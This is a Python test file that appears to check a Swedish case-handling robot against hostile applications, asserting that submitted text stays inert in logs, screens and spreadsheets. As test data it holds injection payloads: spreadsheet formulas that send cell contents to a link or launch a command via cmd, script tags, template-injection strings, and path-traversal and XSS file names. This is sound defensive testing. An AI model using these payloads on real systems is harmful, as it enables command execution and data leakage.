"""Every hostile and odd application in one night: each ends as the hand-written key says, and nothing ends the run.

What people open and print after that night, workbooks and cases on the screen, holds a stranger's text as text.
"""

from __future__ import annotations

import re
import shutil
import subprocess
import unicodedata
from collections import Counter
from html import unescape
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from robots import words
from robots.cases import CaseContent
from robots.cli import run
from robots.model import File, State, Unknown
from robots.reports.page import Column
from robots.reports.spoken import Spoken
from robots.reports.workbook import ReportBook
from robots.work.office import today
from robots.work.reporting import write_report
from tests.hostile.conftest import Night
from tests.logbook import logged
from tests.reports.reading import cells
from tests.reports.test_workbook import MADE
from tests.work.municipality import tell

pytestmark = pytest.mark.proof


def content(night: Night, story: str) -> CaseContent:
    """What the store has of the case of this story."""
    with night.town.store() as store:
        return store.content(store.case(night.number_of(story), "practice"))


def read(night: Night, story: str) -> dict[str, Any]:
    """What was read of the case of this story."""
    return dict(content(night, story).application or {})


def test_each_application_ends_as_the_key_says_and_the_run_ends_well(night: Night) -> None:
    assert night.robot.process.exitcode == 0, night.robot.said()
    with night.town.store() as store:
        ends = Counter(str(case.reason or case.state) for case in store.cases())
    tell(f"{len(night.key)} hostile and odd applications in one run: {dict(ends)}")
    assert len(night.key) == sum(ends.values()) == 48
    assert night.town.amiss() == {}
    assert State.FAILED not in ends


def test_nothing_was_decided_and_nothing_sent_but_the_robots_own_saves(night: Night) -> None:
    events = night.town.account("/handelser")
    assert [event for event in events if event["target"] == "fatta"] == []
    assert night.town.account()["decisions"] == {}
    drafted = {number for number, right in night.key.items() if right["state"] == "verified"}
    assert sorted(night.town.writing_posts()) == sorted(drafted)


def test_of_a_case_for_people_only_its_number_is_held_and_nothing_else(night: Night) -> None:
    shut = [number for number, right in night.key.items() if right["expect"].get("handed_over") == "person_only"]
    assert len(shut) == 4
    with night.town.store() as store:
        for number in shut:
            held = store.content(store.case(number, "practice"))
            assert (held.application, held.documents, held.findings, held.proposal) == (None, (), (), None)
            assert not held.hand_over
    said = {line["says"] for line in logged(night.town.home.logs) if any(number in str(line) for number in shut)}
    assert said == {"handed_over (person_only)"}
    evidence = [path.name for path in night.town.home.logs.rglob("*") if any(number in path.name for number in shut)]
    assert evidence == []


def test_a_page_that_acts_by_itself_is_told_of_as_a_warning_and_in_plain_words(night: Night) -> None:
    hostile = [number for number, right in night.key.items() if right["expect"].get("handed_over") == "hostile"]
    assert len(hostile) == 5
    lines = logged(night.robot.logs)[night.robot.logged_before :]
    warned = {line["case"] for line in lines if line["says"].startswith("a page of the case tried to send")}
    assert warned == set(hostile)  # one that never rests may do it again while it is left
    told = content(night, "trycker på Fatta beslut").hand_over or ""
    assert "Det stoppades: inget skrevs." in told
    assert "script" not in told


def test_every_hand_over_of_what_could_not_be_read_names_the_field_and_says_why_in_swedish(night: Night) -> None:
    english = set(words._swedish()) - set(words._swedish().values())
    unreadable = [right["story"] for right in night.key.values() if right["expect"].get("handed_over") == "unreadable"]
    told = {story: content(night, story).hand_over or "" for story in unreadable}
    for story, why in told.items():
        tell(f"{story}: {why}")
    plain = re.compile(
        r'"[A-ZÅÄÖ].+" kunde inte läsas säkert: .+|.+: "Underlag" står på sidan 2 gånger; en väntades\. .+'
    )
    assert [why for why in told.values() if not plain.fullmatch(why)] == []
    assert [why for why in told.values() if why.partition(": ")[2] in english] == []
    assert len(set(told.values())) >= 15


@pytest.mark.parametrize(
    ("story", "field", "text"),
    [
        ("HTML och skript", "police_report", "<script>__doPostBack('fatta','')</script>"),
        ("Formler i fritexten", "police_report", '=HYPERLINK("http://example.org/?"&A1,"klicka")'),
        ("Formler i fritexten", "stays_in", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("fullbreddstecken", "police_report", "＝１＋１"),
        ("fullbreddstecken", "stays_in", "＠SUM(1)"),
        ("Emoji", "police_report", "👩\u200d🦽 ❤️\u200d🔥 tack"),
    ],
)
def test_what_was_written_is_kept_to_the_letter(night: Night, story: str, field: str, text: str) -> None:
    assert read(night, story)[field] == text


def test_template_code_stands_in_the_letter_as_it_was_written(night: Night) -> None:
    number, code = night.number_of("Mallkod"), "{{7*7}} {0.__class__} %s"
    saved = night.town.account()["cases"][number]["draft"]
    assert code in saved["motivering"] + saved["anteckning"]
    assert "49" not in saved["motivering"] + saved["anteckning"]


NAMES = {
    "pekar ut ur sin mapp": ["passwd.pdf", "foto.png"],
    "förbehållna Windows": ["_CON", "_nul.png"],
    "HTML, citattecken": ["_img src=x onerror=alert(1)__Set-Cookie_ x=1.pdf"],
}


@pytest.mark.parametrize("story", NAMES)
def test_a_files_name_is_no_path(night: Night, story: str) -> None:
    names = [row["file"].name for row in read(night, story)["documents"]]
    assert names[: len(NAMES[story])] == NAMES[story]


def test_no_name_of_a_strangers_reaches_the_file_system(night: Night) -> None:
    home = night.town.home
    kept = [path for path in (home.data / "attachments").rglob("*") if path.is_file()]
    assert kept
    assert [path for path in kept if not re.fullmatch(r"[0-9a-f]{64}\.sealed", path.name)] == []
    assert [path for path in home.path.rglob("*") if re.search(r"passwd|CON|nul|intyg|exe|\u202e", path.name)] == []


def test_nothing_that_was_kept_is_larger_or_other_than_the_flow_takes(night: Night) -> None:
    with night.town.store() as store:
        files = [file for case in store.cases() for file in store.content(case).documents]
    assert files
    assert all(isinstance(file, File) and file.size <= 10_000_000 for file in files)
    assert {file.media_type for file in files} == {"application/pdf", "image/png"}


def test_the_log_holds_no_sign_that_steers_a_terminal(night: Night) -> None:
    written = "".join(path.read_text("utf-8") for path in night.town.home.logs.glob("*.jsonl"))
    assert {sign for sign in written if unicodedata.category(sign) in ("Cc", "Cf")} <= {"\n"}
    assert "HYPERLINK" not in written


def test_what_could_not_be_read_has_no_value_anywhere(night: Night) -> None:
    assert read(night, "Styrtecken")["police_report"] == Unknown("it holds control characters or invisible ones")
    assert read(night, "vänder läsriktningen så")["documents"][0]["file"] == Unknown(
        "its name ends otherwise than its content is"
    )
    assert read(night, "Hundratusen tecken")["stays_in"] == Unknown("it is longer than 10000 characters")


TEXTS = [
    '=HYPERLINK("http://example.org/?"&A1,"klicka")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "＝１＋１",
    "＋1",
    "－2",
    "＠SUM(1)",
    "http://example.org/",
    "{{7*7}} {0.__class__} %s",
    "<script>alert(1)</script>",
    "\t=1+1",
]


@pytest.fixture(scope="module")
def workbooks(night: Night, tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    """Both reports of that night, and one of texts alone."""
    folder = tmp_path_factory.mktemp("reports")
    made = ReportBook("Texter", authority="=1+1", made=MADE, spoken=Spoken("sv"))
    made.page("Blad").table("Texts", [Column("Text")], [[text] for text in TEXTS])
    home = night.town.home
    reports = [
        write_report(home, name, folder / f"{name}.xlsx", day=today(), language="sv") for name in ("worklist", "weekly")
    ]
    return [*reports, made.save(folder / "texts.xlsx")]


OURS = re.compile(r"=IF\((?:WhatIf[A-Za-z]+|[0-9(),;*/+<>-])+\)")
"""What may be changed on the sheet of hours saved is counted anew by formulas, of names and numbers and no text."""


def harmless(path: Path, system: str = "") -> list[str]:
    """The texts of a workbook in which nothing is more than text; its links lead into it, or to a case's own page."""
    found = []
    for sheet in load_workbook(path).worksheets:
        leads = [link.target for link in sheet._hyperlinks if not link.location]
        assert [one for one in leads if not (system and re.fullmatch(re.escape(system) + r"/arende/[\w-]+", one))] == []
    for cell in cells(load_workbook(path)):
        assert cell.data_type != "f" or OURS.fullmatch(str(cell.value)), cell.coordinate
        if isinstance(cell.value, str):
            assert not {sign for sign in cell.value if unicodedata.category(sign) in ("Cc", "Cf")} - set("\n\t")
            found.append(cell.value)
    return found


def test_no_workbook_holds_a_formula_a_link_or_a_sign_that_nobody_sees(night: Night, workbooks: list[Path]) -> None:
    worklist = harmless(workbooks[0], night.town.address)
    assert set(night.key) <= set(worklist), "every case stands on the worklist"
    harmless(workbooks[1], night.town.address)
    assert [text for text in TEXTS if text not in harmless(workbooks[2])] == []


def test_a_spreadsheet_program_finds_no_formula_or_link_in_them_either(workbooks: list[Path], tmp_path: Path) -> None:
    office = shutil.which("soffice")
    if office is None:
        pytest.fail("LibreOffice is missing: install libreoffice-calc, then run the tests again")
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    command = [office, "--headless", profile, "--convert-to", "fods", "--outdir", tmp_path, *workbooks]
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    for workbook in workbooks:
        opened = (tmp_path / f"{workbook.stem}.fods").read_text(encoding="utf-8")
        formulas = [unescape(one) for one in re.findall(r'table:formula="of:([^"]*)"', opened)]
        assert [one for one in formulas if not OURS.fullmatch(one)] == []
        assert [one for one in re.findall(r'xlink:href="(http[^"]*)"', opened) if "/arende/" not in one] == []
    texts = (tmp_path / "texts.fods").read_text(encoding="utf-8")
    assert "＝１＋１" in texts
    assert "@SUM(1+1)" in texts


@pytest.mark.parametrize("language", ["sv", "en"])
def test_the_screen_shows_a_strangers_markup_as_it_stands(
    night: Night, language: str, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PYTHON_KEYRING_BACKEND", "keyring.backends.null.Keyring")
    said = ""
    for story in ("Mallkod", "HTML och skript", "Styrtecken", "vänder läsriktningen så"):
        assert run(["--home", str(night.town.home.path), "--lang", language, "case", night.number_of(story)]) == 0
        said += capfd.readouterr().out
    assert "{% raw %} [red]r[/red] [link=http://example.org]l[/link] [/]" in said
    assert "<script>__doPostBack('fatta','')</script>" in said
    assert not {sign for sign in said if unicodedata.category(sign) in ("Cc", "Cf")} - {"\n"}
